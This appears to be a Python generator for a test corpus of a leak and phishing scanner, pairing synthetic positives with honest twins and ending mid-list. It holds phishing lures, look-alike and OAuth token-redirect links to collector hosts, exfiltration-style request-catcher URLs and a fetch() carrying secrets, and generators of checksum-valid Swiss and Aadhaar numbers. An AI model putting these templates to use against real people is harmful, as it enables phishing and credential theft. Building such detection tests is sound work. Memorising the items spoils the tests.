# Generates the hundred-and-fourth content corpus (cases-104.jsonl): the classes of the forty-fifth to forty-seventh
# slices' non-injection leaks and false positives (docs/content-readings.md, "The forty-fifth to forty-seventh slices'
# other misses"), in texts of its own, beside honest twins `ok104…` from the same carriers; written BEFORE any rule
# changed:
#   cl104a  a password under its label in a language the tables lacked, by family: Turkic (Uzbek's and Azerbaijani's
#           Latin `parol`, Uzbek's and Tajik's Cyrillic `парол`, Tatar's `серсүз`, Bashkir's `серһүҙ`), Great Lakes Bantu
#           (Kinyarwanda's and Kirundi's `ijambo ry'ibanga`), Sotho-Tswana (`lefoko la sephiri`, `lentswe la sephiri`),
#           Swahili's `neno la siri`, Somali's `erayga sirta`, Igbo's `okwuntughe`, Javanese's and Sundanese's bare
#           `sandi`, Celtic (Scottish Gaelic's `facal-faire`, Breton's `ger-tremen`), Romansh's `pled-clav`, Sorbian's
#           `hesło`, Papiamento's and Chavacano's `kontraseña`; before a colon, a qualifier and a colon, or a copula;
#   cl104q  a label the tables know with a qualifier of seven or eight words before its colon or its copula (Spanish,
#           Italian, Portuguese, Hausa), or after an article the copula's reading lacked (Frisian `It`, Dutch `'t`);
#   cl104t  an English `password` in a Tagalog or Cebuano sentence: `sa …` or `para sa …` before a colon, `kay` or `ay`;
#   cl104p  a login pair whose password's label has no colon ("user X, LABEL VALUE") in several languages;
#   cl104k  a keypad's, a door's, a gate's or an alarm's code named as one, digits (a `#` or `*` after them maybe);
#   pd104h  Switzerland's social insurance number (756, dotted groups, an EAN-13 check) under its labels;
#   pd104a  an Aadhaar number under its label in an Indic script and that script's word for "number";
#   ok104a  the new labels before placeholders, masks and pointers; `Sandi` as a person's name in a chat; "parol
#           evidence" in a contract's English;
#   ok104q  long qualifiers before words, not values;
#   ok104t  Tagalog and Cebuano sentences about a password with no value;
#   ok104p  login pairs whose password is a placeholder, a mask or a pointer;
#   ok104k  codes talked about: lengths, defaults, models, dates, pointers;
#   ok104h  756 numbers failing the check, masked, the documented sample, and other dotted numbers under other labels;
#   ok104i  numbers under Aadhaar's Indic labels that fail Verhoeff's check (not grouped by four: so grouped, a number
#           under Aadhaar's label is one whatever its check), and masked numbers;
#   ok104u  payment providers' checkout links whose `token=` is an order's id (`EC-…`).
# Label decisions, made before any run:
#   - A generated value under a password's or a code's name is a credential and the value is the secret; a placeholder,
#     a mask, a pointer, a length, a word, a date or a model's number is not.
#   - A Swiss or Indian personal number whose check passes under its label is personal data; a failing, masked or
#     documented sample is not.
#   - A checkout link's order token is no credential and no attack.
# Deterministic (seeded). Run: python3 test/corpus-content/generate104.py
import functools, json
json.dumps = functools.partial(json.dumps, ensure_ascii=False)
from corpuslib import Corpus
corpus = Corpus(20261304)
r = corpus.r

FIRSTS = ['Nilufar', 'Eshan', 'Mutoni', 'Ailsa', 'Gwenola', 'Ramun', 'Lenka', 'Xiomara', 'Thabo', 'Ayaan', 'Divya', 'Corsin']
LASTS = ['Karimova', 'Uwase', 'MacLeod', 'Le Goff', 'Caduff', 'Nowak', 'Martina', 'Mokoena', 'Farah', 'Reddy', 'Joshi', 'Brunner']
def person(): return f'{r.choice(FIRSTS)} {r.choice(LASTS)}'
def pw(): return corpus.password(r.randint(10, 14))

# Carriers: each takes a line holding the label and its value and wraps it as people paste it.
def c_mail(line): return f'From: {person()} <it@{r.choice(["orchard-lims.example", "tideway-depot.example"])}>\nSubject: new account\n\n{line}\n\nRegards'
def c_chat(line): return json.dumps({'room': 'ops', 'messages': [{'from': 'kim', 'text': 'morning'}, {'from': 'ade', 'text': line}]})
def c_ticket(line): return json.dumps({'issue': {'key': f'OPS-{r.randint(100, 999)}', 'comment': f'Access for the contractor\n{line}\nClosing.'}}, indent=2)
def c_log(line): return f'[provision {r.randint(1000, 9999)}] account created\n{line}\n[provision] ok'
def c_note(line): return f'# Handover\n\n- shift lead: {person()}\n- {line}\n- next check: Monday'
CARRIERS = [c_mail, c_chat, c_ticket, c_log, c_note]

# (label, what follows it before the value) per language: a colon, a qualifier and a colon, or a copula.
NEW_LABELS = [
    ('Parol', ':'), ('parol', ' yangi tizim uchun:'), ('Parol', ' hesab \u00fc\u00e7\u00fcn:'),           # Uzbek, Azerbaijani
    ('\u041f\u0430\u0440\u043e\u043b', ':'), ('\u043f\u0430\u0440\u043e\u043b', ' \u0431\u0430\u0440\u043e\u0438 \u043f\u043e\u0447\u0442\u0430:'),  # Uzbek/Tajik Cyrillic
    ('\u0421\u0435\u0440\u0441\u04af\u0437', ':'), ('\u0441\u0435\u0440\u0441\u04af\u0437', ' \u044f\u04a3\u0430:'),  # Tatar
    ('\u0421\u0435\u0440\u04bb\u04af\u04d9', ':'),                                                        # Bashkir
    ("Ijambo ry'ibanga", ':'), ("ijambo ry'ibanga ryawe", ' ni'), ('Ijambo ry\u2019ibanga', ' rishya:'),  # Kinyarwanda, Kirundi
    ('Lefoko la sephiri', ':'), ('lefoko la sephiri la gago', ' ke'), ('Lentswe la sephiri', ':'),       # Northern Sotho, Tswana, Sesotho
    ('Neno la siri', ':'), ('neno la siri jipya', ' ni'),                                                 # Swahili
    ('Erayga sirta', ':'), ('Okwuntughe', ':'),                                                           # Somali, Igbo
    ('Sandi', ' anyar kanggo email:'), ('sandi', ' WiFi kantor:'), ('Sandi', ':'),                       # Javanese, Sundanese
    ('Facal-faire', ':'), ('facal-faire', ' an l\u00econra:'), ('Ger-tremen', ':'), ('ger-tremen', ' nevez:'),  # Gaelic, Breton
    ('Pled-clav', ':'), ('il pled-clav', ' dal server \u00e8'),                                           # Romansh
    ('Hes\u0142o', ':'), ('hes\u0142o', ' za serwer je'),                                                 # Sorbian
    ('Kontrase\u00f1a', ':'), ('kontrase\u00f1a', ' di bo kuenta ta'),                                    # Papiamento, Chavacano
]
labelled, secrets = [], []
for i, (label, after) in enumerate(NEW_LABELS):
    v = pw()
    labelled.append(CARRIERS[i % len(CARRIERS)](f'{label}{after} {v}'))
    secrets.append(v)
corpus.add('cl104a', ['credential_leak'], labelled, source='tool_output', wrap=False, secrets=secrets)

HOLLOW = ['********', '<password>', '${SMTP_PASS}', '[redacted]', 'https://vault.example/item/88', 'N/A', '\u2022\u2022\u2022\u2022\u2022\u2022\u2022', '(SMS)', 'see 1Password', '{{ secret }}']
ok_a = [CARRIERS[(i + 1) % len(CARRIERS)](f'{label}{after} {HOLLOW[i % len(HOLLOW)]}') for i, (label, after) in enumerate(NEW_LABELS)]
ok_a += [
    json.dumps({'room': 'events', 'messages': [{'from': 'Sandi', 'text': 'See you at Gate4B tomorrow'}]}),
    'Sandi: running late, order Table12 for us',
    'Sandi: Thanks2All for coming!',
    'The parol evidence rule bars prior oral agreements; see Clause 14.2 of the Master Agreement.',
    'Parol: the terms in Schedule B-7 prevail over oral statements.',
    'Kode sandi: ROT13 cipher exercise for class 7B',
    'Hes\u0142o: Witajcie w Budy\u0161inje',
    'Facal-faire: air a chur ann an teachdaireachd SMS',
]
corpus.add('ok104a', [], ok_a, source='tool_output', wrap=False)

# cl104q: known labels, long qualifiers, articles.
LONG = [
    ('La clave del sistema de turnos de la planta norte', ' es'),
    ('la contrase\u00f1a del portal de proveedores de la obra nueva', ':'),
    ('La password del gestionale della sede di via Roma nuova', ' \u00e8'),
    ('A senha do sistema de reservas da piscina municipal nova', ' \u00e9'),
    ('Kalmar sirri ta wucin gadi don shafin ma\u2019aikatan gona', ':'),
    ('It wachtwurd foar de nije kompjuter', ' is'),
    ("'t Wachtwoord voor de nieuwe laptop", ' is'),
    ('Dat wachtwurd fan it kantoar', ' is'),
]
q_pos, q_sec, q_ok = [], [], []
WORDS_AFTER = ['el mismo que ayer', 'pendiente de cambio', 'quello solito', 'a mesma de sempre', 'za a aika ta SMS', 'net feroare', 'nog niet ingesteld', 'yn de klu\u00f9s']
for i, (head, cop) in enumerate(LONG * 2):
    v = pw()
    q_pos.append(CARRIERS[(i + 2) % len(CARRIERS)](f'{head}{cop} {v}'))
    q_sec.append(v)
for i, (head, cop) in enumerate(LONG):
    q_ok.append(CARRIERS[i % len(CARRIERS)](f'{head}{cop} {WORDS_AFTER[i]}.'))
    q_ok.append(CARRIERS[(i + 3) % len(CARRIERS)](f'{head}{cop} {HOLLOW[i]}'))
corpus.add('cl104q', ['credential_leak'], q_pos, source='tool_output', wrap=False, secrets=q_sec)
corpus.add('ok104q', [], q_ok, source='tool_output', wrap=False)

# cl104t: English `password` in Tagalog and Cebuano.
TL = [
    lambda v: f'Password sa Wi-Fi ng opisina: {v}',
    lambda v: f'password sa payroll system sa head office: {v} (huwag ipamigay)',
    lambda v: f'ang password para sa shared drive kay {v}, salamat',
    lambda v: f'Ang password sa email nimo kay {v}',
    lambda v: f'ang password para sa router ay {v}',
    lambda v: f'Password para sa CCTV: {v}',
]
t_pos, t_sec = [], []
for i in range(12):
    v = pw()
    t_pos.append(CARRIERS[i % len(CARRIERS)](TL[i % len(TL)](v)))
    t_sec.append(v)
corpus.add('cl104t', ['credential_leak'], t_pos, source='tool_output', wrap=False, secrets=t_sec)
t_ok = [
    'Password sa Wi-Fi ng opisina: itanong kay Marites', 'ang password para sa shared drive kay gi-reset na ni Jun',
    'Ang password sa email nimo kay dili nako mahinumduman', 'ang password para sa router ay nasa likod ng device',
    'Password para sa CCTV: ********', 'password sa payroll system: ipapadala sa SMS', 'ang password para kay Andoy ay ipapadala bukas',
    'Password sa VPN: tingnan sa vault', 'ang password para sa portal kay pareho ra gihapon', 'Password sa printer: wala',
    'ang password sa laptop ay bago na', 'Password para sa guest: nasa reception',
]
corpus.add('ok104t', [], [CARRIERS[(i + 1) % len(CARRIERS)](x) for i, x in enumerate(t_ok)], source='tool_output', wrap=False)

# cl104p: login pairs, the password's label without a colon.
PAIRS = [
    ('\u043a\u043e\u0440\u0438\u0441\u043d\u0438\u043a', '\u043b\u043e\u0437\u0438\u043d\u043a\u0430'),   # Macedonian/Serbian
    ('utilizador', 'palavra-passe'), ('login', 'has\u0142o'), ('u\u017eivatel', 'heslo'), ('utilisateur', 'mot de passe'),
    ('korisnik', 'lozinka'), ('kullan\u0131c\u0131', '\u015fifre'), ('k\u00e4ytt\u00e4j\u00e4', 'salasana'), ('anv\u00e4ndare', 'l\u00f6senord'),
    ('felhaszn\u00e1l\u00f3', 'jelsz\u00f3'), ('utilizator', 'parola'), ('bruker', 'passord'),
]
p_pos, p_sec, p_ok = [], [], []
for i, (user, label) in enumerate(PAIRS):
    v = pw()
    acct = r.choice(['lab_ops', 'depot7', 'reuniao', 'kiosk_b', 'mtadmin'])
    p_pos.append(CARRIERS[i % len(CARRIERS)](f'Pristup do sustava: {user} {acct}, {label} {v}'.replace('Pristup do sustava: ', r.choice(['Access: ', 'Sala 3 - ', '', 'VPN: ']))))
    p_sec.append(v)
    p_ok.append(CARRIERS[(i + 2) % len(CARRIERS)](f'{user} {acct}, {label} {HOLLOW[i % len(HOLLOW)]}'))
corpus.add('cl104p', ['credential_leak'], p_pos, source='tool_output', wrap=False, secrets=p_sec)
p_ok += [
    'utilizador reuniao, palavra-passe enviada por SMS', 'login kiosk_b, has\u0142o zmienione wczoraj', 'korisnik depot7, lozinka istekla',
    'utilisateur lab_ops, mot de passe oubli\u00e9', 'user mtadmin, password expired', 'kullan\u0131c\u0131 depot7, \u015fifre s\u0131f\u0131rland\u0131',
]
corpus.add('ok104p', [], p_ok, source='tool_output', wrap=False)

# cl104k: keypad, door, gate and alarm codes.
def code(n):
    while True:
        s = ''.join(r.choice('0123456789') for _ in range(n))
        if len(set(s)) >= 3 and s not in '0123456789' and not s.startswith('20'): return s
K = [
    lambda c: f'Storeroom B access: keypad code {c}# (changes on the 1st)',
    lambda c: f'Door code: {c}',
    lambda c: f'the gate code is {c}, use the side entrance',
    lambda c: f'Alarm code {c} - disarm within 30 seconds',
    lambda c: f'Lockbox code: {c}*',
    lambda c: f'T\u00fcrcode: {c}',
    lambda c: f'code de la porte : {c}',
    lambda c: f'Entry code for the bike shed {c}#',
]
k_pos, k_sec = [], []
for i in range(16):
    c = code(r.choice([4, 5, 6]))
    line = K[i % len(K)](c)
    sec = c + ('#' if f'{c}#' in line else '*' if f'{c}*' in line else '')
    k_pos.append(CARRIERS[i % len(CARRIERS)](line))
    k_sec.append(sec)
corpus.add('cl104k', ['credential_leak'], k_pos, source='tool_output', wrap=False, secrets=k_sec)
K_OK = [
    'Keypad code: 4 to 6 digits', 'Door code changed on 2026-03-01', 'Gate code: ask the porter', 'Alarm code length: 6 digits',
    'Keypad model 3391 replaced in room 12', 'Door code 1234 is the factory default - change it', 'Lockbox code: see the text message',
    'T\u00fcrcode: wird per SMS verschickt', 'code de la porte : demandez au gardien', 'Entry code for the bike shed: ********',
    'Zip code 94107', 'Error code 4471 on keypad 2', 'Door code reset requested, ticket 88213', 'Alarm code: [redacted]',
    'Postal code: 8004 Z\u00fcrich', 'Gate code expires after 30 days',
]
corpus.add('ok104k', [], [CARRIERS[(i + 1) % len(CARRIERS)](x) for i, x in enumerate(K_OK)], source='tool_output', wrap=False)

# pd104h: Swiss AHV/AVS numbers.
def ean_check(d12):
    s = sum(int(c) * (1 if i % 2 == 0 else 3) for i, c in enumerate(d12))
    return (10 - s % 10) % 10
def ahv(valid=True):
    d = '756' + ''.join(r.choice('0123456789') for _ in range(9))
    c = ean_check(d)
    if not valid: c = (c + r.randint(1, 9)) % 10
    s = d + str(c)
    return f'{s[:3]}.{s[3:7]}.{s[7:11]}.{s[11:]}'
H = [
    lambda n, p: f'Anmeldung Bibliothek\nName: {p}\nAHV-Nr.: {n}',
    lambda n, p: f'N\u00b0 AVS: {n} ({p})',
    lambda n, p: json.dumps({'employee': p, 'ahv_nr': n, 'canton': 'GR'}),
    lambda n, p: f'{p}, AHV-Nummer {n}, Eintritt 1.4.',
    lambda n, p: f'Sozialversicherungsnummer: {n}\nArbeitgeber: Brunner AG',
    lambda n, p: f'Numero AVS di {p}: {n}',
    lambda n, p: f'<tr><td>{p}</td><td>AHV</td><td>{n}</td></tr>',
    lambda n, p: f'Inscription: {p} - num\u00e9ro AVS {n}',
]
h_pos, h_sec = [], []
for i in range(16):
    n = ahv()
    h_pos.append(CARRIERS[i % len(CARRIERS)](H[i % len(H)](n, person())))
    h_sec.append(n)
corpus.add('pd104h', ['personal_data'], h_pos, source='tool_output', wrap=False, secrets=h_sec)
h_ok = [CARRIERS[(i + 2) % len(CARRIERS)](H[i % len(H)](ahv(False), person())) for i in range(8)]
h_ok += [
    'AHV-Nr.: 756.1234.5678.97 (Beispiel aus dem Merkblatt)', 'N\u00b0 AVS: 756.\u2022\u2022\u2022\u2022.\u2022\u2022\u2022\u2022.12',
    'AHV-Nr.: 756.XXXX.XXXX.XX', 'Artikel 756.2210.4471.33 im Lager Chur', 'Version 7.5.6.2210 deployed', 'Konto 756.0021.8812.40 (Kreditor)',
    'Tel. 081 756 22 10', 'Auftrag Nr. 756.3301.2291.05',
]
corpus.add('ok104h', [], h_ok, source='tool_output', wrap=False)

# pd104a: Aadhaar under Indic labels with the script's word for "number".
VD = [[0,1,2,3,4,5,6,7,8,9],[1,2,3,4,0,6,7,8,9,5],[2,3,4,0,1,7,8,9,5,6],[3,4,0,1,2,8,9,5,6,7],[4,0,1,2,3,9,5,6,7,8],
      [5,9,8,7,6,0,4,3,2,1],[6,5,9,8,7,1,0,4,3,2],[7,6,5,9,8,2,1,0,4,3],[8,7,6,5,9,3,2,1,0,4],[9,8,7,6,5,4,3,2,1,0]]
VP = [[0,1,2,3,4,5,6,7,8,9],[1,5,7,6,2,8,3,0,9,4],[5,8,0,3,7,9,6,1,4,2],[8,9,1,6,0,4,3,5,2,7],[9,4,5,3,1,2,6,8,7,0],
      [4,2,8,6,5,7,3,9,0,1],[2,7,9,3,8,0,6,4,1,5],[7,0,4,6,9,1,3,2,5,8]]
VINV = [0,4,3,2,1,5,6,7,8,9]
def verhoeff_digit(num):
    c = 0
    for i, d in enumerate(reversed(num)): c = VD[c][VP[(i + 1) % 8][int(d)]]
    return VINV[c]
def aadhaar(valid=True):
    d = str(r.randint(2, 9)) + ''.join(r.choice('0123456789') for _ in range(10))
    c = verhoeff_digit(d)
    if not valid: c = (c + r.randint(1, 9)) % 10
    s = d + str(c)
    return f'{s[:4]} {s[4:8]} {s[8:]}'
INDIC = [
    '\u0906\u0927\u093e\u0930 \u0915\u094d\u0930\u092e\u093e\u0902\u0915',            # Marathi/Hindi kramank
    '\u0c06\u0c27\u0c3e\u0c30\u0c4d \u0c38\u0c02\u0c16\u0c4d\u0c2f',                    # Telugu sankhya
    '\u0986\u09a7\u09be\u09b0 \u09b8\u0982\u0996\u09cd\u09af\u09be',                    # Bengali sankhya
    '\u0a86\u0aa7\u0abe\u0ab0 \u0a95\u0acd\u0ab0\u0aae\u0abe\u0a82\u0a95',              # Gujarati kramank
    '\u0b06\u0b27\u0b3e\u0b30 \u0b28\u0b2e\u0b4d\u0b2c\u0b30',                          # Odia number
    '\u0d06\u0d27\u0d3e\u0d7c \u0d38\u0d02\u0d16\u0d4d\u0d2f',                          # Malayalam sankhya
    '\u0a06\u0a27\u0a3e\u0a30 \u0a28\u0a70\u0a2c\u0a30',                                # Gurmukhi (known) number
    '\u0b86\u0ba4\u0bbe\u0bb0\u0bcd \u0b8e\u0ba3\u0bcd',                                # Tamil (known) en
]
a_pos, a_sec, a_ok = [], [], []
for i in range(16):
    n = aadhaar()
    lab = INDIC[i % len(INDIC)]
    a_pos.append(CARRIERS[i % len(CARRIERS)](r.choice([f'KYC: {person()} {lab}: {n}', f'{lab} - {n}', f'{person()}\n{lab}: {n}'])))
    a_sec.append(n)
for i in range(8):
    a_ok.append(CARRIERS[(i + 3) % len(CARRIERS)](f'{INDIC[i]}: {aadhaar(False).replace(" ", "")}'))
    a_ok.append(CARRIERS[(i + 1) % len(CARRIERS)](f'{INDIC[i]}: XXXX XXXX {r.randint(1000, 9999)}'))
corpus.add('pd104a', ['personal_data'], a_pos, source='tool_output', wrap=False, secrets=a_sec)
corpus.add('ok104i', [], a_ok, source='tool_output', wrap=False)

# ok104u: checkout links with an order's token.
def ec(): return 'EC-' + corpus.rs('ABCDEFGHJKLMNPRSTUVWXYZ0123456789', 17)
U = [
    lambda: f'Complete your order with PayPal: https://www.paypal.com/checkoutnow?token={ec()}',
    lambda: f'<a href="https://www.paypal.com/cgi-bin/webscr?cmd=_express-checkout&token={ec()}">Pay now</a>',
    lambda: json.dumps({'approve_url': f'https://www.sandbox.paypal.com/checkoutnow?token={ec()}', 'status': 'CREATED'}),
    lambda: f'Redirecting to https://www.paypal.com/checkoutnow?token={ec()}&useraction=commit ...',
    lambda: f'Order {r.randint(10000, 99999)} awaiting payment: https://paypal.com/checkoutnow?token={ec()}',
    lambda: f'[checkout] redirect 302 -> https://www.paypal.com/webapps/hermes?token={ec()}&useraction=commit',
]
corpus.add('ok104u', [], [CARRIERS[i % len(CARRIERS)](U[i % len(U)]()) for i in range(12)], source='web', wrap=False)

# Added after the first readings, measured on base42 before their own: hidden_unicode's two classes.
# hu104z: single zero-width spaces (or word joiners) between every letter or two of a brand's or a lure's word.
def interleave(word, sep='\u200b', step=1): return sep.join(word[i:i + step] for i in range(0, len(word), step))
HZ = [
    lambda: f'{interleave("Kilnhouse")} Support: confirm your login today',
    lambda: f'Your {interleave("Tideway")} parcel is held - pay the fee',
    lambda: json.dumps({'title': f'{interleave("Orchard", step=2)} Bank alert', 'body': 'Unusual sign-in detected'}),
    lambda: '<p>' + interleave('verify', '\u2060') + ' your account now</p>',
    lambda: f'Subject: {interleave("Invoice")} overdue\n\nplease pay',
    lambda: f'{interleave("password", step=2)} reset required',
]
corpus.add('hu104z', ['hidden_unicode'], [CARRIERS[i % len(CARRIERS)](HZ[i % len(HZ)]()) for i in range(12)], source='web', wrap=False)
# ok104z: zero-width spaces and isolates as honest writing does them: break opportunities between syllables of a long
# word or an identifier, an @-mention kept from pinging, Thai and Khmer words parted, a right-to-left name isolated.
OKZ = [
    'Long word: Donau\u200bdampf\u200bschiff\u200bfahrts\u200bgesellschaft',
    'path: /var/\u200blib/\u200bdocker/\u200bvolumes',
    'cc @\u200bkim and @\u200bade on this',
    '\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35\u200b\u0e04\u0e23\u0e31\u0e1a\u200b\u0e22\u0e34\u0e19\u0e14\u0e35\u200b\u0e15\u0e49\u0e2d\u0e19\u0e23\u0e31\u0e1a',
    'New supplier: \u2067\u0634\u0631\u0643\u0629 \u0627\u0644\u0646\u062e\u064a\u0644\u2069 signed the contract.',
    'Guest list: \u2067\u05d3\u05e0\u05d4 \u05dc\u05d5\u05d9\u2069, Ailsa MacLeod',
    'Reviewer: \u2067\u0641\u0627\u0637\u0645\u0629 \u0627\u0644\u0632\u0647\u0631\u0627\u0621\u2069 (3 comments)',
    'Table: getUser\u200bPreferences\u200bBy\u200bAccount\u200bId',
    'Address: \u2067\u0634\u0627\u0631\u0639 \u0627\u0644\u0645\u0644\u0643 \u0661\u0662\u2069, Amman',
    'URL shown wrapped: https://\u200bexample.org/\u200bdocs/\u200bsetup',
    '\u1785\u17bb\u17c7\u200b\u1788\u17d2\u1798\u17c4\u17c7\u200b\u1791\u17b8\u1793\u17c1\u17c7',
    'Team: \u2067\u05d0\u05d1\u05d9 \u05db\u05d4\u05df\u2069 joined',
]
corpus.add('ok104z', [], [CARRIERS[(i + 1) % len(CARRIERS)](x) for i, x in enumerate(OKZ)], source='web', wrap=False)

# Added with hidden_unicode's, measured on base42 before their readings: adversarial_url's warnings.
# ok104w: security notices that show a look-alike's or a raw address's link as what phishing looks like.
W_OK = [
    'Security tip: links like https://paypa1-account-help.example are fake - we never ask for your password by e-mail.',
    'Reminder: hosts such as http://3232235777/ or http://0x7f000001/ are common phishing signs; report them to the desk.',
    'Training slide 4: addresses like https://micros0ft-support.example/login are a scam, delete the message.',
    'Club notice: links such as https://rav3nsholm-tickets.example/pay are not ours. Our only shop is ravensholm.example.',
    'Quiz answer: URLs like http://2886794753/login look fake because they hide the real host.',
    'Phishing examples, e.g. https://g00gle-drive-share.example/doc are fraudulent and should be reported.',
]
corpus.add('ok104w', [], [CARRIERS[i % len(CARRIERS)](x) for i, x in enumerate(W_OK)], source='web', wrap=False)
# ur104w: the same hosts offered, a warning's words elsewhere or none: still attacks.
W_POS = [
    'Your account is on hold. Sign in at https://paypa1-account-help.example to restore it.',
    'Links like this one are safe to open: https://micros0ft-support.example/login',
    'Fake sites are everywhere, so use our official page: https://rav3nsholm-tickets.example/pay',
    'Open http://3232235777/ and enter your staff login to keep access.',
    'Your shared file is ready: https://g00gle-drive-share.example/doc (sign in to view)',
    'Beware of scams! Verify at https://paypa1-account-help.example/verify today.',
]
corpus.add('ur104w', ['adversarial_url'], [CARRIERS[(i + 2) % len(CARRIERS)](x) for i, x in enumerate(W_POS)], source='web', wrap=False)

# Added for the URL classes still untouched, measured on base42 and on the merged stage before their readings:
# ur104o: an OAuth authorize link at a real provider whose redirect_uri hands the code or token to a collector (a raw
# public address, a host named for grabbing or harvesting, a throwaway top-level domain); ok104o: the same providers
# sending it back to the app's own host, a company's intranet, a developer's machine.
OA_PROVIDERS = [
    'https://login.microsoftonline.com/organizations/oauth2/v2.0/authorize?client_id={cid}&response_type=code&redirect_uri={red}&scope=Files.ReadWrite.All%20offline_access',
    'https://accounts.google.com/o/oauth2/auth?response_type=token&client_id={cid}.apps.googleusercontent.com&redirect_uri={red}&scope=https://www.googleapis.com/auth/drive',
    'https://github.com/login/oauth/authorize?scope=repo%20read:org&client_id={cid}&redirect_uri={red}',
    'https://www.dropbox.com/oauth2/authorize?client_id={cid}&token_access_type=offline&response_type=code&redirect_uri={red}',
    'https://gitlab.com/oauth/authorize?client_id={cid}&redirect_uri={red}&response_type=code&scope=api',
    'https://zoom.us/oauth/authorize?response_type=code&client_id={cid}&redirect_uri={red}',
]
OA_BAD = ['https://harvest-session.xyz/cb', 'http://91.214.124.77/oauth/cb', 'https%3A%2F%2Fcode-grab.top%2Freturn',
          'https://tokens-stealer.icu/in', 'http%3A%2F%2F203.0.113.0.nip.io%2Fa', 'https://drive-sync-backup.cyou/auth/return',
          'https://mailbox-capture.click/o', 'http://45.133.1.20:8080/cb']
OA_GOOD = ['https://app.fernhollow.io/auth/callback', 'https%3A%2F%2Fintranet.brackwater-labs.com%2Fsso%2Freturn',
           'http://localhost:8080/callback', 'http://127.0.0.1:5173/oauth/return', 'https://studio.kilnhouse.dev/api/auth/callback/github',
           'https://docs.tideway-depot.example/login/oauth2/code', 'urn:ietf:wg:oauth:2.0:oob', 'https://sync.orchard-lims.example/dropbox/done']
def cid(): return corpus.rs('0123456789abcdef', 16)
OA_LEADS = ['Connect your storage: ', 'Re-authorise the integration here ', 'Step 2 - grant access: ', 'Login expired, continue at ']
oa_pos = [CARRIERS[i % len(CARRIERS)](OA_LEADS[i % 4] + OA_PROVIDERS[i % len(OA_PROVIDERS)].format(cid=cid(), red=OA_BAD[i])) for i in range(8)]
oa_ok = [CARRIERS[(i + 2) % len(CARRIERS)](OA_LEADS[(i + 1) % 4] + OA_PROVIDERS[(i + 1) % len(OA_PROVIDERS)].format(cid=cid(), red=OA_GOOD[i])) for i in range(8)]
corpus.add('ur104o', ['adversarial_url'], oa_pos, source='web', wrap=False)
corpus.add('ok104o', [], oa_ok, source='web', wrap=False)
# ur104e: an image (a pixel) whose query lists several people's e-mail addresses; ok104e: a pixel that carries the
# one recipient's address or a hashed id, an avatar, a list's unsubscribe link with the reader's address.
def mail(): return f'{r.choice(["lena", "tomas", "ines", "ravi", "mei", "olu", "sanna", "piet"])}.{r.choice(["arkwright", "moreau", "sato", "okafor", "lind", "vos"])}@{r.choice(["post.example", "webmail.example", "corp-mail.example"])}'
def mails(n, sep=','): return sep.join(mail() for _ in range(n))
PX_POS = [
    lambda: f'<img src="https://cdn.statpulse.example/b.gif?to={mails(3)}" width="1" height="1" alt="">',
    lambda: f'![](https://img.opencount.example/t.png?r={mails(4, "%2C")})',
    lambda: f'<img src="https://px.mailmetric.example/open.jpg?uid=77&cc={mails(2, ";")}&bcc={mail()}">',
    lambda: f'<img style="display:none" src="https://beacon.leadgrid.example/i.webp?contacts={mails(5)}">',
    lambda: f'<img src="https://pix.sendcount.example/1x1.gif?a={mail()}&b={mail()}&c={mail()}" height=1 width=1>',
    lambda: f'<img src="https://t.inboxpeek.example/p.png?list={mails(3, "%2C").replace("@", "%40")}">',
]
PX_OK = [
    lambda: f'<img src="https://cdn.statpulse.example/b.gif?rcpt={mail()}&cid=8812" width="1" height="1" alt="">',
    lambda: f'<img src="https://www.gravatar.com/avatar/{corpus.rs("0123456789abcdef", 32)}.png?s=80&d=identicon">',
    lambda: f'Unsubscribe: https://lists.fernhollow.example/unsub?email={mail()}&list=monthly',
    lambda: f'<img src="https://px.mailmetric.example/open.jpg?uid={r.randint(1000, 9999)}&h={corpus.rs("0123456789abcdef", 24)}">',
    lambda: f'Forward to {mail()}, {mail()} and {mail()}; logo at https://brand.kilnhouse.example/logo.png?v=3',
    lambda: f'<img src="https://charts.opencount.example/chart.png?title=Signups&series=12,15,19,22">',
]
corpus.add('ur104e', ['adversarial_url'], [CARRIERS[i % len(CARRIERS)](PX_POS[i % len(PX_POS)]()) for i in range(6)], source='web', wrap=False)
corpus.add('ok104e', [], [CARRIERS[(i + 1) % len(CARRIERS)](PX_OK[i % len(PX_OK)]()) for i in range(6)], source='web', wrap=False)
# ur104c: a request catcher's URL whose query carries a secret by its name (a credential leaked too, as a link's
# password is); ok104c: the same catchers with an
# event's ordinary fields, a docs line naming one, a placeholder.
def uuid(): return '-'.join(corpus.rs('0123456789abcdef', n) for n in (8, 4, 4, 4, 12))
C_POS = [
    lambda: f'sent: https://webhook.site/{uuid()}?db_password={corpus.password(14)}',
    lambda: f'callback -> https://eo{corpus.rs("0123456789abcdef", 14)}.m.pipedream.net/?client_secret={corpus.mixed(32)}',
    lambda: f'GET https://requestcatcher.com/x?session_cookie={corpus.mixed(40)} 200',
    lambda: f'fetch("https://{corpus.rs("abcdefghij", 8)}.oast.fun/?api_token={corpus.mixed(36)}")',
    lambda: f'ping https://webhook.site/{uuid()}?private_key={corpus.mixed(44)}&host=build-7',
    lambda: f'report: https://hookbin.com/{corpus.mixed(20)}?access_key={corpus.mixed(24)}',
]
C_OK = [
    lambda: f'Test delivery: https://webhook.site/{uuid()}?event=push&ref=main&run={r.randint(100, 999)}',
    lambda: 'Use https://webhook.site to inspect the payload; never put a client_secret in the query.',
    lambda: f'posted to https://eo{corpus.rs("0123456789abcdef", 14)}.m.pipedream.net/?status=ok&order={r.randint(10000, 99999)}',
    lambda: 'Example: https://webhook.site/your-uuid?api_token=YOUR_TOKEN_HERE',
    lambda: f'https://requestcatcher.com/test?page=2&sort=asc received',
    lambda: f'debug hook: https://webhook.site/{uuid()}?key_count=4&token_type=bearer',
]
c_sec = []
c_pos = []
for i in range(6):
    t = C_POS[i]()
    c_sec.append(t.split('=', 1)[1].split('&')[0].split(' ')[0].rstrip('")'))
    c_pos.append(CARRIERS[(i + 3) % len(CARRIERS)](t))
corpus.add('ur104c', ['adversarial_url', 'credential_leak'], c_pos, source='tool_output', wrap=False, secrets=c_sec)
corpus.add('ok104c', [], [CARRIERS[i % len(CARRIERS)](C_OK[i]()) for i in range(6)], source='tool_output', wrap=False)
# ur104n: an international host whose label, its accents dropped, is a well-known brand the message names (a brand
# whose own domain is plain ASCII); ok104n: businesses whose own name and domain hold the accent, as they write them.
def puny(host): return host.encode('idna').decode()
N_POS = [
    f'Your IKEA delivery slot needs confirming: https://{puny("ikéa.com")}/slot',
    f'Hallo, Ihre Sparkasse: bitte TAN-Verfahren erneuern unter https://www.{puny("spärkasse.de")}/tan',
